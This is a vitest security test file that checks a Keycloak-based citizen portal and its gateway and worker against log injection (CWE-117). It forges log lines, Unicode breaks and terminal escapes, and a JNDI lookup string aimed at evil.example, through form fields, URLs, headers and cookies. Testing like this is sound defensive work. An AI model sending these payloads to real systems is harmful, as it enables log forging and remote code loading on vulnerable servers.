import { afterAll, describe, expect, it, vi } from "vitest";
import { z } from "zod";
import { comeFromLine, lineFaults, newLinePerson } from "../integration/support/line.ts";
import { createCitizen, deleteCreatedPeople } from "../integration/support/people.ts";
import { beginReset, useCounterCode } from "../integration/support/reset.ts";
import { authorizationRequest } from "../support/authorization.ts";
import { endpoints, realmUrl } from "../support/endpoints.ts";
import { logOf, type Logging } from "../support/logs.ts";
import { giveAddressAndPassword } from "../support/sign-in.ts";
import { Visitor } from "../support/visitor.ts";
import { watchAudit } from "./support/audit.ts";
import { PoisonedVisitor } from "./support/poisoned-visitor.ts";

afterAll(deleteCreatedPeople);

/** In whatever is sent here. */
const MARK = crypto.randomUUID();

/** A line as each of the processes writes its own, with a line break before it. */
const FORGED = {
  keycloak: `x\n2026-01-01 00:00:00,000 INFO  [forged] ${MARK}`,
  json: `x\r\n{"level":"info","process":"portal","msg":"forged ${MARK}"}`,
  unicode: `x\u2028forged ${MARK}\u0085forged ${MARK}`,
  escape: `x\u001b[2K\u001b[1A${MARK}`,
  jndi: `\${jndi:ldap://evil.example/${MARK}}%n%d`,
};
const TYPED = Object.entries(FORGED);

/** The same in a URL or in a header, where a line break does not come through as it is. */
const encoded = (text: string) => encodeURIComponent(text);

/** A line that a process itself writes. */
const lineOf = (process: Logging) =>
  process === "keycloak"
    ? z.looseObject({ timestamp: z.string(), loggerName: z.string(), level: z.string() })
    : z.looseObject({ process: z.literal(process), level: z.string(), msg: z.string() });

/**
 * Every line is one of the process's own. Keycloak's messages quote requests, which does no harm within
 * a line; our own processes quote nothing.
 */
function expectOwn(process: Logging, log: string): void {
  for (const line of log.split("\n").filter((each) => each !== "")) {
    expect(lineOf(process).safeParse(JSON.parse(line)).success, line).toBe(true);
  }
  if (process !== "keycloak") expect(log.includes(MARK), `${process} quotes`).toBe(false);
}

/** What the processes have written since; what was asked before stands there. */
async function written(from: Record<Logging, number>): Promise<Record<Logging, string>> {
  const since = (process: Logging) => logOf(process).slice(from[process]);
  // LINE's refusal comes last, and the portal answers in order.
  await lineFaults({ idToken: "wrong-nonce" });
  try {
    await comeFromLine(newLinePerson());
  } finally {
    await lineFaults({});
  }
  await fetch(`${endpoints.portal}/documents/${"last"}`);
  await vi.waitFor(() => {
    expect(since("keycloak")).toContain("Refused LINE's ID token: wrong nonce");
    expect(since("portal")).toContain('"/documents/:code"');
  });
  return Object.fromEntries(PROCESSES.map((process) => [process, since(process)])) as never;
}

const PROCESSES = ["keycloak", "portal", "gateway", "worker"] as const;
const lengths = () =>
  Object.fromEntries(PROCESSES.map((process) => [process, logOf(process).length])) as Record<
    Logging,
    number
  >;

describe("OP-4: log injection (CWE-117)", () => {
  it.each(TYPED)(
    "what is typed writes no line of its own, and nothing of it: %s",
    async (_, forged) => {
      const before = lengths();
      const audit = await watchAudit();
      const { email } = await createCitizen();
      const newBrowser = () => new Visitor(endpoints.keycloak);

      const signingIn = newBrowser();
      const signInPage = await signingIn.open(authorizationRequest().url);
      await giveAddressAndPassword(signingIn, signInPage, {
        email: `${MARK}@example.jp`,
        password: forged,
      });
      const typing = newBrowser();
      await typing.submit(await typing.open(authorizationRequest().url), { username: forged });

      const registering = newBrowser();
      const create = await registering.open(authorizationRequest({ prompt: "create" }).url);
      const refused = await registering.submit(create, { email: forged });
      const codePage = await registering.submit(refused, { email: `${MARK}@example.jp` });
      await registering.submit(codePage, { code: forged });

      const { visitor, page } = await beginReset();
      const counter = await visitor.submit(await useCounterCode(visitor, page), { email });
      await visitor.submit(counter, { "counter-code": forged });

      for (const parameters of [
        { client_id: forged },
        { redirect_uri: forged },
        { scope: forged },
        { state: forged, login_hint: forged, ui_locales: forged, kc_locale: forged },
        { acr_values: forged, claims: forged },
        { kc_idp_hint: forged, kc_action: forged },
        { request: forged },
        { id_token_hint: forged, prompt: "none" },
      ] as Record<string, string>[]) {
        await newBrowser().open(authorizationRequest(parameters).url);
      }
      const query = new URLSearchParams({
        error: forged,
        error_description: forged,
        state: forged,
      });
      await newBrowser().open(`${realmUrl("broker/line/endpoint")}?${query.toString()}`);
      await fetch(`${endpoints.portal}/auth/callback?${query.toString()}`);
      await fetch(`${endpoints.portal}/auth/login?return=${encoded(forged)}`);
      await fetch(realmUrl("protocol/openid-connect/token"), {
        method: "POST",
        body: new URLSearchParams({ client_id: forged, grant_type: forged, code: forged }),
      });
      await audit.sees({ event: "LOGIN", error: "user_not_found" });

      for (const [process, log] of Object.entries(await written(before))) {
        expect(log.includes(`${MARK}@example.jp`), `${process} holds an address`).toBe(false);
        expectOwn(process as Logging, log);
      }
    },
  );

  it("a path, a header or a token writes no line of its own, and nothing of it", async () => {
    const before = lengths();
    for (const [, forged] of TYPED) {
      const text = encoded(forged);
      const headers = {
        "user-agent": text,
        referer: `https://evil.example/${text}`,
        "x-correlation-id": text,
        "x-request-id": text,
        traceparent: `00-${MARK.replaceAll("-", "")}-0000000000000001-01`,
        tracestate: `forged=${MARK}`,
        baggage: `forged=${MARK}`,
        "x-forwarded-for": text,
        authorization: `Bearer ${text}`,
        cookie: `__Host-machi-session=${text}; AUTH_SESSION_ID=${text}; KEYCLOAK_IDENTITY=${text}`,
        "accept-language": text,
      };
      for (const url of [
        `${endpoints.portal}/${text}`,
        `${endpoints.portal}/documents/${text}`,
        `${endpoints.portal}/settings`,
        `${endpoints.gateway}/${text}`,
        `${endpoints.gateway}/citizen/deliveries`,
        realmUrl(text),
        realmUrl("citizen/profile"),
        realmUrl(`security-alarm/${text}`),
        realmUrl(`address-change/undo?token=${text}`),
        realmUrl(`login-actions/authenticate?execution=${text}&tab_id=${text}&client_data=${text}`),
        `${endpoints.keycloak}/realms/${text}/protocol/openid-connect/auth`,
        authorizationRequest().url,
      ]) {
        await new PoisonedVisitor(headers, new URL(url).origin).open(url);
      }
    }
    for (const [process, log] of Object.entries(await written(before))) {
      expect(log.includes(MARK.replaceAll("-", "")), `${process} takes foreign ids`).toBe(false);
      expectOwn(process as Logging, log);
    }
  });
});
